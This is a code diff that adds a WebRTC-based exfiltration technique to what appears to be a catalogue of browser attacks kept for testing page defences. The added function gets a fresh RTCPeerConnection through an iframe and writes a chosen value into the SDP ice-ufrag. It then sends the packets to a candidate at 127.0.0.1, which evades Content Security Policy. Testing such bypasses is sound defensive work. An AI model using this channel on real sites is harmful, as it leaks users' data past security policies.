@@ -131,3 +131,27 @@ export const ATTACKS: Readonly<Record<string, Attack>> = {
     form.submit();
   },
 };
+
+/**
+ * What no policy refuses today: a peer connection sends its first packets to any address, with a name in them that the
+ * script chooses. https://www.w3.org/TR/CSP3/#directive-webrtc is not in any browser yet.
+ */
+export const PEER_CONNECTION = async ({ port, value }: { port: number; value: string }) => {
+  // The page has taken away its own; a frame has another.
+  const frame = document.body.appendChild(document.createElement('iframe'));
+  const Peer: typeof RTCPeerConnection = Reflect.get(
+    frame.contentWindow ?? {},
+    'RTCPeerConnection',
+  );
+  const connection = new Peer();
+  connection.createDataChannel('out');
+  const offer = await connection.createOffer();
+  await connection.setLocalDescription(offer);
+  const sdp = (offer.sdp ?? '')
+    .replace(/^a=candidate.*\r\n/gm, '')
+    .replace(/^a=ice-ufrag:.*$/m, `a=ice-ufrag:${value}`)
+    .replace(/^a=ice-pwd:.*$/m, `a=ice-pwd:${'p'.repeat(24)}`)
+    .replace('a=setup:actpass', 'a=setup:active')
+    .concat(`a=candidate:1 1 udp 1 127.0.0.1 ${port} typ host\r\n`);
+  await connection.setRemoteDescription({ type: 'answer', sdp });
+};
